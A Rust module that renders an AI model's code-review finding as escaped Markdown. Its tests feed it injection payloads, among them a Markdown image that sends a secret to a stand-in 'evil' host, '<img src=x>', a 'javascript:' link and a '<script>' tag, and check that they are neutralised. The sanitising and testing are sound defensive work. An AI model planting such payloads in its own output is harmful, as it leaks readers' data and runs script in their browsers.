//! A finding as Markdown.
//!
//! A model that has read untrusted text wrote it, so no image, link or HTML in it may become active
//! in the reader's browser.

use std::fmt::Write;

use crate::model::{FileRole, Finding, mask, plain_text, unmask_markdown};

/// Without a title.
pub fn markdown(finding: &Finding) -> String {
    let mut page = format!("{}\n", mask(&finding.summary));
    list(&mut page, "Likely causes", finding.likely_causes.iter().map(|cause| mask(cause)));
    list(
        &mut page,
        "Where to look",
        finding.files.iter().map(|file| {
            let missing = if file.exists == Some(false) { " (not in the repository)" } else { "" };
            let role = match file.role {
                Some(FileRole::Change) => " (change)",
                Some(FileRole::Test) => " (test)",
                Some(FileRole::Understand) | None => "",
            };
            let unread = if file.read == Some(false) { " (not read)" } else { "" };
            format!("`{}`{role}{unread}{missing}: {}", code(&file.path), mask(&file.reason))
        }),
    );
    section(&mut page, "Suggested change", &mask(&finding.suggested_change));
    list(&mut page, "Tests", finding.tests.iter().map(|text| mask(text)));
    list(&mut page, "Pitfalls", finding.pitfalls.iter().map(|text| mask(text)));
    let grades = format!(
        "risk **{}** \u{b7} effort **{}** \u{b7} confidence **{}**",
        finding.risk, finding.effort, finding.confidence
    );
    section(&mut page, "Assessment", &grades);
    list(&mut page, "Not checked", finding.not_checked.iter().map(|text| mask(text)));
    list(&mut page, "Open questions", finding.open_questions.iter().map(|text| mask(text)));
    unmask_markdown(&page)
}

fn section(page: &mut String, title: &str, text: &str) {
    // Writing to a String cannot fail.
    let _ = write!(page, "\n#### {title}\n\n{text}\n");
}

fn list(page: &mut String, title: &str, entries: impl Iterator<Item = String>) {
    let lines: Vec<String> =
        entries.map(|entry| format!("- {}", entry.replace('\n', "\n  "))).collect();
    if !lines.is_empty() {
        section(page, title, &lines.join("\n"));
    }
}

fn code(path: &str) -> String {
    mask(&plain_text(path).replace('`', "").replace('\n', " "))
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::model::{Confidence, Effort, FileReference, Risk};

    fn finding() -> Finding {
        Finding {
            summary: "The total is rounded twice.".into(),
            likely_causes: vec!["Rounding per line.".into(), "And in the sum.".into()],
            files: vec![
                FileReference {
                    role: None,
                    read: None,
                    path: "src/total.rs".into(),
                    reason: "sums up".into(),
                    exists: Some(true),
                },
                FileReference {
                    role: None,
                    read: None,
                    path: "src/gone.rs".into(),
                    reason: "rounds".into(),
                    exists: Some(false),
                },
            ],
            suggested_change: "1. Round once.\n2. Test it.".into(),
            risk: Risk::Low,
            effort: Effort::Small,
            confidence: Confidence::High,
            open_questions: vec![],
            tests: Vec::new(),
            pitfalls: Vec::new(),
            not_checked: Vec::new(),
        }
    }

    #[test]
    fn reads_well() {
        let expected = "The total is rounded twice.

#### Likely causes

- Rounding per line.
- And in the sum.

#### Where to look

- `src/total.rs`: sums up
- `src/gone.rs` (not in the repository): rounds

#### Suggested change

1. Round once.
2. Test it.

#### Assessment

risk **low** \u{b7} effort **small** \u{b7} confidence **high**
";
        assert_eq!(markdown(&finding()), expected);
    }

    #[test]
    fn nothing_in_it_becomes_an_image_a_link_or_html() {
        let mut finding = finding();
        finding.summary =
            "![x](http://evil/?q=secret) <img src=x> [a](javascript:1)\n# Big\n[b]: http://evil"
                .into();
        finding.files[0].path = "a`</code><script>`".into();
        let page = markdown(&finding);
        for bad in ["![", "](", "<img", "\n# Big", "[b]:"] {
            assert!(!page.contains(bad), "{bad} in {page}");
        }
        assert!(page.contains("- `a</code><script>`:"), "inside code, harmless: {page}");
    }

    /// The inline code of a page and the text of its code blocks, as a parser sees them.
    fn code_in(page: &str) -> Vec<String> {
        use pulldown_cmark::{Event, Parser, Tag, TagEnd};
        let (mut found, mut block) = (Vec::new(), None::<String>);
        for event in Parser::new(page) {
            match event {
                Event::Code(code) => found.push(code.to_string()),
                Event::Start(Tag::CodeBlock(_)) => block = Some(String::new()),
                Event::Text(text) if block.is_some() => block.as_mut().unwrap().push_str(&text),
                Event::End(TagEnd::CodeBlock) => found.extend(block.take()),
                _ => {}
            }
        }
        found
    }

    #[test]
    fn code_is_shown_as_it_is() {
        let mut finding = finding();
        finding.files.clear();
        finding.summary = "`grams <= band.upToGrams` & <b>, `a && b | c`, ``a`<b>``".into();
        finding.likely_causes = vec![
            "`[a-z]\\(x` and `![i](j)` and `&lt;`".into(),
            "see\n\n```cpp\n#include <map>\nif (a < b && c[0](d)) {}\n---\n```".into(),
        ];
        let page = markdown(&finding);
        let expected = [
            "grams <= band.upToGrams",
            "a && b | c",
            "a`<b>",
            "[a-z]\\(x",
            "![i](j)",
            "&lt;",
            "#include <map>\nif (a < b && c[0](d)) {}\n---\n",
        ];
        assert_eq!(code_in(&page), expected, "{page}");
        assert!(page.contains(" &amp; &lt;b>, "), "{page}");
    }

    #[test]
    fn what_only_looks_like_code_is_escaped() {
        for text in [
            "a ` <img src=x>",
            "``<img src=x>`",
            "`a\n<img src=x>\n`",
            "`a|<img src=x>`\n-|-",
            "\\`<img src=x>`",
            "`a` <img src=x> `b`",
        ] {
            let mut finding = finding();
            finding.summary = text.into();
            finding.files[0].reason = text.into();
            let page = markdown(&finding);
            assert!(!page.contains("<img"), "{page}");
        }
        let mut finding = finding();
        finding.files[0].path = "a|<img src=x>".into();
        finding.files[0].reason = "b\n-|-".into();
        assert!(!markdown(&finding).contains("<img"), "a table splits code at `|`");
    }
}
